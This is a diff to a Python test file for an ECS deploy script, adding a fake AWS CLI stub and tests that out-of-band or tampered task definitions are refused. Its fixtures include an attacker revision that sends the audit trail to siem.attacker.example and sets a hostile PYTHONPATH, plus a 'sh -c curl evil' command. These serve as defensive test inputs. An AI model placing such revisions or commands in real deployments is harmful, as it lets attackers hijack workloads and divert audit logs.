@@ -418,32 +418,68 @@ def test_a_document_that_is_not_cyclonedx_is_refused(tmp_path: Path) -> None:
 FAKE_AWS = r"""#!__PYTHON__
 import json, os, sys
 args = [a for a in sys.argv[1:] if a not in ("--output", "json")]
-with open(os.environ["FAKE_AWS_LOG"], "a") as log:
+log_path = os.environ["FAKE_AWS_LOG"]
+with open(log_path, "a") as log:
     log.write(json.dumps(args) + "\n")
 command = " ".join(args[:2])
 old = "ghcr.io/acme/app@sha256:" + "0" * 64
 def container(name, image):
-    return {"name": name, "image": image, "command": ["python", "-m", "app", name]}
-if command == "ecs describe-task-definition" and args[-1].startswith("app-drift"):
-    definition = {"taskDefinitionArn": "arn:td/app-drift:3", "family": "app-drift", "revision": 3,
-                  "containerDefinitions": [container("drift", os.environ.get("FAKE_DRIFT_IMAGE", old))]}
+    return {"name": name, "image": image, "command": ["python", "-m", "app", name],
+            "environment": [{"name": "APP_SIEM_URL", "value": "https://siem.example"}]}
+# Task definitions by ARN: Terraform registered app:7 (the service runs it) and app-drift:3; a test may add more
+# (an out-of-band revision) to the state file, and every registration is kept there.
+state_path = log_path + ".state"
+if os.path.exists(state_path):
+    state = json.load(open(state_path))
 else:
-    definition = {"taskDefinitionArn": "arn:td/app:7", "family": "app", "revision": 7, "status": "ACTIVE",
-                  "containerDefinitions": [container("app", old),
-                                           container("audit-forward", os.environ.get("FAKE_SIDECAR_IMAGE", old))]}
+    state = {"tds": {
+        "arn:td/app:7": {"taskDefinitionArn": "arn:td/app:7", "family": "app", "revision": 7, "status": "ACTIVE",
+                         "taskRoleArn": "arn:role/task", "containerDefinitions": [container("app", old),
+                         container("audit-forward", os.environ.get("FAKE_SIDECAR_IMAGE", old))]},
+        "arn:td/app-drift:3": {"taskDefinitionArn": "arn:td/app-drift:3", "family": "app-drift", "revision": 3,
+                               "taskRoleArn": "arn:role/drift",
+                               "containerDefinitions": [container("drift", os.environ.get("FAKE_DRIFT_IMAGE", old))]}},
+        "service": "arn:td/app:7", "terraform": {"app": ["arn:td/app:7"], "app-drift": ["arn:td/app-drift:3"]}}
     if "FAKE_OPA_IMAGE" in os.environ:
-        definition["containerDefinitions"].append(container("opa", os.environ["FAKE_OPA_IMAGE"]))
+        state["tds"]["arn:td/app:7"]["containerDefinitions"].append(container("opa", os.environ["FAKE_OPA_IMAGE"]))
+    patch = json.loads(os.environ.get("FAKE_STATE_PATCH", "{}"))
+    state["tds"].update(patch.pop("tds", {}))
+    state.update(patch)
+def save():
+    json.dump(state, open(state_path, "w"))
+def resolve(reference):
+    if reference in state["tds"]:
+        return state["tds"][reference]
+    family = reference.rsplit("-migrate", 1)[0]  # the migrations family shares the app's definition here
+    return max((td for td in state["tds"].values() if td["family"] == family), key=lambda td: td["revision"])
 if command == "ecs describe-services":
-    print(json.dumps({"services": [{"taskDefinition": "arn:td/app:7",
+    print(json.dumps({"services": [{"taskDefinition": state["service"],
         "networkConfiguration": {"awsvpcConfiguration": {"subnets": ["subnet-1"]}}}]}))
 elif command == "ecs describe-task-definition":
-    print(json.dumps({"taskDefinition": definition}))
+    print(json.dumps({"taskDefinition": resolve(args[-1])}))
+elif command in ("ssm get-parameter", "ssm get-parameter-history"):
+    family = args[args.index("--name") + 1].split("/")[2].rsplit("-migrate", 1)[0]
+    recorded = state["terraform"].get(family, [])
+    if command == "ssm get-parameter":
+        print(json.dumps({"Parameter": {"Value": recorded[-1]}} if recorded else {}))
+    else:
+        print(json.dumps({"Parameters": [{"Value": arn} for arn in recorded]}))
 elif command == "ecs register-task-definition":
     registered = open(args[-1].removeprefix("file://")).read()
-    with open(os.environ["FAKE_AWS_LOG"] + ".registered", "a") as kept:
+    with open(log_path + ".registered", "a") as kept:
         kept.write(registered.replace("\n", " ") + "\n")
-    family = json.loads(registered)["family"]
-    print(json.dumps({"taskDefinition": {"taskDefinitionArn": f"arn:td/{family}:8"}}))
+    definition = json.loads(registered)
+    family = definition["family"]
+    arn = f"arn:td/{family}:8"
+    state["tds"][arn] = {**definition, "taskDefinitionArn": arn, "revision": 8}
+    if os.environ.get("FAKE_REGISTER_TAMPER"):  # someone edits what was registered before it runs
+        state["tds"][arn]["containerDefinitions"][0]["entryPoint"] = ["sh", "-c"]
+    save()
+    print(json.dumps({"taskDefinition": {"taskDefinitionArn": arn}}))
+elif command == "ecs update-service":
+    state["service"] = args[args.index("--task-definition") + 1]
+    save()
+    print("{}")
 elif command == "ecs run-task":
     print(json.dumps({"tasks": [{"taskArn": "arn:task/1"}], "failures": []}))
 elif command == "ecs list-tasks":
@@ -510,7 +546,7 @@ def test_migrations_run_in_a_new_revision_of_the_verified_digest(fake_aws) -> No
     assert run[run.index("--task-definition") + 1] == "arn:td/app:8"
     overrides = json.loads(run[run.index("--overrides") + 1])
     assert overrides == {"containerOverrides": [{"name": "app", "command": ["migrate"]}]}
-    assert ["ecs", "describe-task-definition", "--task-definition", "app-migrate"] in calls
+    assert ["ssm", "get-parameter", "--name", "/ecs-release/app-migrate/terraform-revision"] in calls
 
 
 def test_a_failed_migration_fails_the_job(fake_aws) -> None:
@@ -692,6 +728,116 @@ def test_the_drift_task_runs_when_only_the_service_has_an_opa_sidecar(fake_aws) 
     args = ("run-task", "--cluster", "c", "--service", "s", "--family", "app-drift")
     result = _script("ecs_release.py", *args, env={**env, "FAKE_OPA_IMAGE": OPA_IMAGE})
     assert result.returncode == 0, result.stderr
+
+
+def _definition(arn: str, containers: list[dict], role: str = "arn:role/task") -> dict:
+    family, revision = arn.rsplit("/", 1)[-1].rsplit(":", 1)
+    return {"taskDefinitionArn": arn, "family": family, "revision": int(revision), "taskRoleArn": role,
+            "containerDefinitions": containers}  # fmt: skip
+
+
+OLD = "ghcr.io/acme/app@sha256:" + "0" * 64
+
+
+def _app_container(name: str, **changes: object) -> dict:
+    reviewed = {"name": name, "image": OLD, "command": ["python", "-m", "app", name],
+                "environment": [{"name": "APP_SIEM_URL", "value": "https://siem.example"}]}  # fmt: skip
+    return {**reviewed, **changes}
+
+
+#: Someone with the deploy role's RegisterTaskDefinition on `*` (or console access) put the service on
+#: a revision of their own: another entryPoint, the audit trail sent elsewhere, a writable PYTHONPATH.
+ATTACKER_REVISION = _definition(
+    "arn:td/app:9",
+    [
+        _app_container(
+            "app",
+            entryPoint=["sh", "-c", "exec python -m app serve"],
+            environment=[
+                {"name": "APP_SIEM_URL", "value": "https://siem.attacker.example"},
+                {"name": "PYTHONPATH", "value": "/mnt/efs/attacker"},
+            ],
+        ),
+        _app_container("audit-forward"),
+    ],
+)
+
+
+def test_an_out_of_band_revision_is_refused_not_carried_forward(fake_aws) -> None:
+    """B1: the service runs a revision Terraform never registered: the deploy refuses, registers nothing."""
+    env, log = fake_aws
+    patch = {"tds": {"arn:td/app:9": ATTACKER_REVISION}, "service": "arn:td/app:9"}
+    args = ["deploy", "--cluster", "c", "--service", "s", "--image", IMAGE, "--also-family", "app-drift"]
+    result = _script("ecs_release.py", *args, env={**env, "FAKE_STATE_PATCH": json.dumps(patch)})
+    assert result.returncode == 1
+    assert "arn:td/app:9 is not a revision Terraform registered" in result.stderr
+    assert "app.entryPoint" in result.stderr
+    assert "app.environment" in result.stderr
+    assert _registered(log) == []
+    assert not any(call[:2] == ["ecs", "update-service"] for call in _calls(log))
+
+
+def test_the_deploy_builds_from_terraforms_revision_not_the_running_one(fake_aws) -> None:
+    """B1: a reviewed Terraform change (app:10, new environment) reaches production with the next deploy,
+    although the service still runs the previous Terraform revision (ignore_changes = [task_definition])."""
+    env, log = fake_aws
+    reviewed = [{"name": "APP_SIEM_URL", "value": "https://siem-v2.example"}]
+    newer = _definition("arn:td/app:10", [_app_container("app", environment=reviewed), _app_container("audit-forward")])
+    patch = {"tds": {"arn:td/app:10": newer}, "terraform": {"app": ["arn:td/app:7", "arn:td/app:10"],
+             "app-drift": ["arn:td/app-drift:3"]}}  # fmt: skip
+    result = _script(
+        "ecs_release.py", "deploy", "--cluster", "c", "--service", "s", "--image", IMAGE,
+        env={**env, "FAKE_STATE_PATCH": json.dumps(patch)},
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    (registered,) = _registered(log)
+    assert [c["environment"] for c in registered["containerDefinitions"]] == [
+        reviewed,
+        _app_container("x")["environment"],
+    ]
+    assert "entryPoint" not in registered["containerDefinitions"][0]
+
+
+def test_the_latest_revision_is_not_the_one_built_from(fake_aws) -> None:
+    """B1: `--also-family` and migrations used the family's LATEST revision; an attacker's newer one is ignored."""
+    env, log = fake_aws
+    hostile = _definition(
+        "arn:td/app-drift:5", [_app_container("drift", command=["sh", "-c", "curl evil"])], "arn:role/drift"
+    )
+    patch = {"tds": {"arn:td/app-drift:5": hostile}}
+    args = ["deploy", "--cluster", "c", "--service", "s", "--image", IMAGE, "--also-family", "app-drift"]
+    assert _script("ecs_release.py", *args, env={**env, "FAKE_STATE_PATCH": json.dumps(patch)}).returncode == 0
+    drift = next(d for d in _registered(log) if d["family"] == "app-drift")
+    assert drift["containerDefinitions"][0]["command"] == ["python", "-m", "app", "drift"]
+
+
+def test_a_fixed_task_whose_latest_revision_is_not_terraforms_is_refused(fake_aws) -> None:
+    """B1: the nightly drift run (no `--image`) runs the family's latest revision only if it is Terraform's
+    but for the image."""
+    env, log = fake_aws
+    hostile = _definition(
+        "arn:td/app-drift:5", [_app_container("drift", command=["sh", "-c", "curl evil"])], "arn:role/drift"
+    )
+    patch = {"tds": {"arn:td/app-drift:5": hostile}}
+    result = _script(
+        "ecs_release.py", "run-task", "--cluster", "c", "--service", "s", "--family", "app-drift",
+        env={**env, "FAKE_STATE_PATCH": json.dumps(patch)},
+    )  # fmt: skip
+    assert result.returncode == 1
+    assert "drift.command" in result.stderr
+    assert not any(call[:2] == ["ecs", "run-task"] for call in _calls(log))
+
+
+def test_the_read_back_compares_the_running_revision_with_terraforms(fake_aws) -> None:
+    """B1: the revision the tasks run must be Terraform's but for images (command, entryPoint, environment,
+    secrets, roles), not just on the digest."""
+    env, _ = fake_aws
+    result = _script(
+        "ecs_release.py", "deploy", "--cluster", "c", "--service", "s", "--image", IMAGE,
+        env={**env, "FAKE_REGISTER_TAMPER": "1"},
+    )  # fmt: skip
+    assert result.returncode == 1
+    assert "arn:td/app:8 differs from Terraform's arn:td/app:7 in app.entryPoint" in result.stderr
 
 
 # ------------------------------------------------------------------ nightly template-update report
